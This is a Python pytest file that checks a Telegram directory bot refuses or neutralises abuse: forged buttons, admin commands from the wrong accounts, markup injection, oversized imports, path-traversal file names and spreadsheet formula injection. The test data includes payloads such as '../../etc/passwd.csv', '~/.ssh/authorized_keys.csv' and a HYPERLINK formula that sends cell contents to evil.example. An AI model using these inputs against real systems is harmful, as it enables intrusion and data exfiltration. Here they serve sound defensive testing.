"""Abuse, refused or neutralised: forged buttons, admin commands from the wrong people and
places, markup injected into the directory and typed text, a 10 MB import, spreadsheet
formulas in the export, and path tricks in imported file names."""

from __future__ import annotations

import csv
import dataclasses
import io
import sqlite3
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.channels.telegram.flood import PerChatUpdateProcessor
from bot.channels.telegram.render import callback_data
from bot.config import ConfigError, load_settings
from bot.directory.files import FORMULA_STARTS, read_folder, read_import, to_csv, to_yaml
from tests.conftest import DIRECTORY, FakeClock
from tests.reliability.fuzz import _SPEC, ADMIN_DATA, fuzz_settings
from tests.reliability.harness import ANONYMOUS_ADMIN, CHANNEL_BOT, ReliableFake
from tests.telegram_support import CHAT, Running, running_bot, settings_for

OWNER = 8300001
STRANGER = 8300002
GROUP = -8300003
EXPIRED = "That button has expired."
# What a person's client would show for markup that was not escaped: every markup language a
# Telegram client knows, and HTML entities.
INJECTION = (
    '<b>bold</b> <a href="tg://user?id=1">tap</a> &amp; &lt;i&gt; *md* _it_ '
    "[link](https://evil.example) `code` ||spoiler|| </i>"
)


@pytest.fixture
def fake(clock: FakeClock) -> Iterator[ReliableFake]:
    with ReliableFake(clock=clock) as server:
        yield server
    assert server.refused == [], [(r.method, r.description) for r in server.refused]


@pytest.fixture
async def bot(fake: ReliableFake, tmp_path: Path, clock: FakeClock) -> AsyncIterator[Running]:
    settings = settings_for(fake, tmp_path, owner_ids=frozenset({OWNER}))
    # Many presses in one chat: the flood guard (tested on its own) is opened wide here.
    processor = PerChatUpdateProcessor(rate=1000.0, burst=100)
    async with running_bot(fake, settings, clock, processor, in_process=False) as running:
        yield running


def newest(bot: Running, chat: int) -> str:
    messages = bot.bot_messages(chat)
    return (messages[-1].plain_text or "") if messages else ""


def state(bot: Running, chat: int) -> str | None:
    with sqlite3.connect(bot.channel.settings.db_path) as conn:
        row = conn.execute("SELECT state FROM sessions WHERE chat_key = ?", (f"tg:{chat}",))
        found = row.fetchone()
    return None if found is None else str(found[0])


# -- forged buttons -------------------------------------------------------------------------


async def test_every_step_button_of_the_flows_forged_at_the_first_step_is_refused(
    bot: Running, fake: ReliableFake
) -> None:
    """Every button of every step (65 steps), pressed where it does not belong, and every admin
    button pressed by someone who is not a manager: answered "expired", nothing changes."""
    await bot.say("/start")
    start = state(bot, CHAT) or ""
    engine = bot.channel.parts.engine
    offered = {callback_data(start, b) for b in engine.buttons(start)}
    everything = {callback_data(name, b) for name in _SPEC.states for b in engine.buttons(name)}
    # Ways out (w:...) work from any message, on purpose: they are not forgeries.
    forged = sorted(d for d in everything - offered if not d.startswith("w:")) + ADMIN_DATA
    assert len(forged) > 100
    live = bot.live().message_id
    for data in forged:
        query = await bot.press(live, data)
        assert (fake.answered_callbacks[query] or "").startswith(EXPIRED), data
        assert state(bot, CHAT) == start, data
        live = bot.live().message_id
    assert "Directory admin" not in bot.text()


# -- admin commands from the wrong people and places --------------------------------------------


@pytest.mark.parametrize("command", ["/admin", "/undo", "/done", "/admin@pathways_test_bot"])
async def test_admin_commands_in_a_group_get_nothing_but_a_departure(
    bot: Running, fake: ReliableFake, command: str
) -> None:
    """From the owner's own account, from Telegram's anonymous-admin account and from a
    channel speaking in the group: the bot says nothing there, and leaves."""
    group = {"id": GROUP, "type": "supergroup", "title": "Group"}
    senders = [
        {"from": {"id": OWNER, "is_bot": False, "first_name": "Owner"}},
        {
            "from": {
                "id": ANONYMOUS_ADMIN,
                "is_bot": True,
                "first_name": "Group",
                "username": "GroupAnonymousBot",
            },
            "sender_chat": group,
        },
        {
            "from": {
                "id": CHANNEL_BOT,
                "is_bot": True,
                "first_name": "Channel",
                "username": "Channel_Bot",
            },
            "sender_chat": {"id": -8300004, "type": "channel", "title": "C"},
        },
    ]
    for number, sender in enumerate(senders, start=1):
        message = {
            "message_id": number,
            "date": int(bot.clock().timestamp()),
            "chat": group,
            "text": command,
            "entities": [{"type": "bot_command", "offset": 0, "length": len(command)}],
            **sender,
        }
        await bot.act(lambda m=message: fake.queue_update({"message": m}))  # type: ignore[misc]
    # A manager's admin button under a message in the group does nothing either.
    raw = {"message_id": 9, "date": int(bot.clock().timestamp()), "chat": group, "text": "x"}
    query = fake.callback(from_id=OWNER, data="a:export", message=raw)
    await fake.until(lambda f: query in f.answered_callbacks and GROUP in f.left_chats)
    assert [c for c in fake.calls("sendMessage") if c["chat_id"] == GROUP] == []
    assert fake.calls("sendDocument") == []
    with sqlite3.connect(bot.channel.settings.db_path) as conn:
        assert conn.execute("SELECT count(*) FROM admin_sessions").fetchone()[0] == 0


async def test_a_stranger_gets_no_admin_chat_by_command_file_or_button(
    bot: Running, fake: ReliableFake
) -> None:
    await bot.say("/start", STRANGER)
    await bot.say("/nonsense", STRANGER)
    unknown = newest(bot, STRANGER)
    for command in ("/admin", "/ADMIN", "/admin@pathways_test_bot", "/undo", "/done"):
        await bot.say(command, STRANGER)
        assert newest(bot, STRANGER) == unknown, command
    await bot.act(lambda: fake.send_document(STRANGER, "directory.csv", b"id,name\n"))
    assert fake.calls("getFile") == []  # the file is not even fetched
    for data in ADMIN_DATA:
        query = await bot.press(bot.live(STRANGER).message_id, data, STRANGER)
        assert (fake.answered_callbacks[query] or "").startswith(EXPIRED), data
    assert "Directory admin" not in bot.text(STRANGER)


@pytest.mark.parametrize("account", [ANONYMOUS_ADMIN, CHANNEL_BOT, 777000])
def test_telegrams_own_accounts_cannot_be_made_owners(
    account: int, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PATHWAYS_OWNER_IDS", f"5001, {account}")
    with pytest.raises(ConfigError, match=f"{account} is Telegram's own account"):
        load_settings()


@pytest.mark.parametrize("account", [ANONYMOUS_ADMIN, CHANNEL_BOT, 777000])
async def test_telegrams_own_accounts_cannot_be_made_editors(bot: Running, account: int) -> None:
    await bot.say("/admin", OWNER)
    await bot.tap("Editors", OWNER)
    await bot.tap("Add an editor", OWNER)
    await bot.say(str(account), OWNER)
    assert "is Telegram's own account" in newest(bot, OWNER)
    assert await bot.channel.admin_chat.admin.editors() == []  # type: ignore[union-attr]


# -- markup injection -----------------------------------------------------------------------------


async def test_markup_in_a_directory_field_shows_literally_to_people_and_managers(
    bot: Running, fake: ReliableFake
) -> None:
    await bot.say("/admin", OWNER)
    await bot.tap("Find a service", OWNER)
    await bot.say("mk-act", OWNER)
    await bot.tap("MK-Act", OWNER)
    await bot.tap("Edit a field", OWNER)
    await bot.tap("description", OWNER)
    await bot.say(INJECTION, OWNER)
    assert INJECTION in newest(bot, OWNER)  # the confirm step shows it as typed
    await bot.tap("Save", OWNER)
    # Someone typing markup themselves is read as words, never shown back as markup.
    await bot.say("/start")
    await bot.say(INJECTION)
    await bot.tap("No, not right now")
    await bot.tap("Me")
    await bot.tap("Yes, I can talk")
    await bot.tap("Skip the questions")
    await bot.tap("Someone to talk to")
    await bot.say("Bletchley")
    (card,) = [m for m in bot.bot_messages() if INJECTION in (m.plain_text or "")]
    # The only formatting is the bot's own: the service's name in bold.
    assert [e["type"] for e in card.entities] == ["bold"]
    assert not any(e["type"] in ("text_link", "italic", "code") for e in card.entities)


async def test_markup_typed_into_the_admin_chat_shows_literally(
    bot: Running, fake: ReliableFake
) -> None:
    await bot.say("/admin", OWNER)
    await bot.tap("Find a service", OWNER)
    await bot.say(INJECTION, OWNER)
    (message,) = [m for m in bot.bot_messages(OWNER) if INJECTION in (m.plain_text or "")]
    assert message.entities == []


# -- files ----------------------------------------------------------------------------------------

TEN_MB = 10 * 1024 * 1024


async def test_a_10_mb_import_is_refused_without_being_fetched(
    bot: Running, fake: ReliableFake
) -> None:
    await bot.say("/admin", OWNER)
    await bot.tap("Import a file", OWNER)
    await bot.act(lambda: fake.send_document(OWNER, "big.csv", b"x" * TEN_MB))
    assert f"The file is too big ({TEN_MB} bytes)" in newest(bot, OWNER)
    assert fake.calls("getFile") == []


async def test_a_10_mb_import_that_hides_its_size_is_refused_once_read(
    bot: Running, fake: ReliableFake, tmp_path: Path
) -> None:
    before = read_services_table(bot)
    await bot.say("/admin", OWNER)
    await bot.tap("Import a file", OWNER)
    fake.add_file("hidden", b"id,name\n" + b"x" * TEN_MB)
    document = {"file_id": "hidden", "file_unique_id": "uhidden", "file_name": "big.csv"}
    await bot.act(lambda: fake.send_message(OWNER, document=document))
    assert "is too big" in newest(bot, OWNER)
    assert str(tmp_path) not in newest(bot, OWNER) and "/tmp" not in newest(bot, OWNER)
    assert read_services_table(bot) == before


def read_services_table(bot: Running) -> list[tuple[object, ...]]:
    with sqlite3.connect(bot.channel.settings.db_path) as conn:
        return conn.execute("SELECT * FROM services ORDER BY id").fetchall()


TRICKS = [
    "../../etc/passwd.csv",
    "/etc/cron.d/pathways.yaml",
    "..\\..\\boot.ini.csv",
    "a/../../b.yml",
    "C:\\Windows\\System32\\x.csv",
    "~/.ssh/authorized_keys.csv",
    "%2e%2e%2f%2e%2e%2fescape.csv",
    "x" * 300 + ".csv",
]


@pytest.mark.parametrize("name", TRICKS)
async def test_path_tricks_in_an_imported_file_name_go_nowhere(
    bot: Running, fake: ReliableFake, tmp_path: Path, name: str
) -> None:
    """The name is never used as a path: only its ending picks the reader."""
    directory = read_folder(DIRECTORY)
    if name.endswith((".yaml", ".yml")):
        content = to_yaml(directory).encode()
    else:
        content = to_csv(directory.services.values()).encode()
    outside = tmp_path.parent
    before = {p.name for p in outside.iterdir()}
    await bot.say("/admin", OWNER)
    await bot.tap("Import a file", OWNER)
    await bot.act(lambda: fake.send_document(OWNER, name, content))
    reply = newest(bot, OWNER)
    assert "Nothing to import" in reply  # read, and found to match the directory
    assert name not in reply and "/tmp" not in reply
    assert {p.name for p in outside.iterdir()} == before


@pytest.mark.parametrize(
    "name", ["x.csv/..", "evil.csv\u0000.txt", "directory.csv.exe", "noext", "../../.csv.sh"]
)
async def test_a_file_name_without_a_known_ending_is_refused_clearly(
    bot: Running, fake: ReliableFake, name: str
) -> None:
    await bot.say("/admin", OWNER)
    await bot.act(lambda: fake.send_document(OWNER, name, b"id,name\n"))
    assert newest(bot, OWNER) == "Please send a .csv, .yaml or .yml file."
    assert fake.calls("getFile") == []


# -- spreadsheet formulas ----------------------------------------------------------------------

cell_text = (
    st.text(
        st.characters(exclude_categories=["Cs", "Cc"]) | st.sampled_from(["=", "+", "-", "@", "'"]),
        min_size=1,
        max_size=40,
    )
    .map(str.strip)
    .filter(bool)
)


_DIRECTORY = read_folder(DIRECTORY)


@fuzz_settings(200)
@given(description=cell_text, name=cell_text)
@example(description="=1+1", name="@SUM(A1)")
@example(description="'=1+1", name="'+44")
@example(description="''=x", name="'")
def test_no_exported_cell_can_run_as_a_formula_and_import_gives_it_back(
    description: str, name: str
) -> None:
    services = _DIRECTORY.services
    service = dataclasses.replace(services["samaritans"], description=description, name=name)
    exported = to_csv([service])
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    path = Path(_scratch()) / "roundtrip.csv"
    path.write_text(exported, encoding="utf-8", newline="")
    again = read_import(path, _DIRECTORY.areas).services["samaritans"]
    assert (again.description, again.name) == (description, name)


def _scratch() -> str:
    import tempfile

    folder = Path(tempfile.gettempdir()) / "pathways-formula-property"
    folder.mkdir(exist_ok=True)
    return str(folder)


async def test_a_formula_typed_by_a_manager_is_inert_in_the_export(
    bot: Running, fake: ReliableFake
) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    await bot.say("/admin", OWNER)
    await bot.tap("Find a service", OWNER)
    await bot.say("samar", OWNER)
    await bot.tap("Samaritans", OWNER)
    await bot.tap("Edit a field", OWNER)
    await bot.tap("hours_note", OWNER)
    await bot.say(formula, OWNER)
    await bot.tap("Save", OWNER)
    await bot.say("/admin", OWNER)
    await bot.tap("Export", OWNER)
    (message,) = [m for m in fake.chat(OWNER) if m.kind == "document"]
    exported = fake.file_data(message.raw["document"]["file_id"]).decode()
    cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
    assert "'" + formula in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
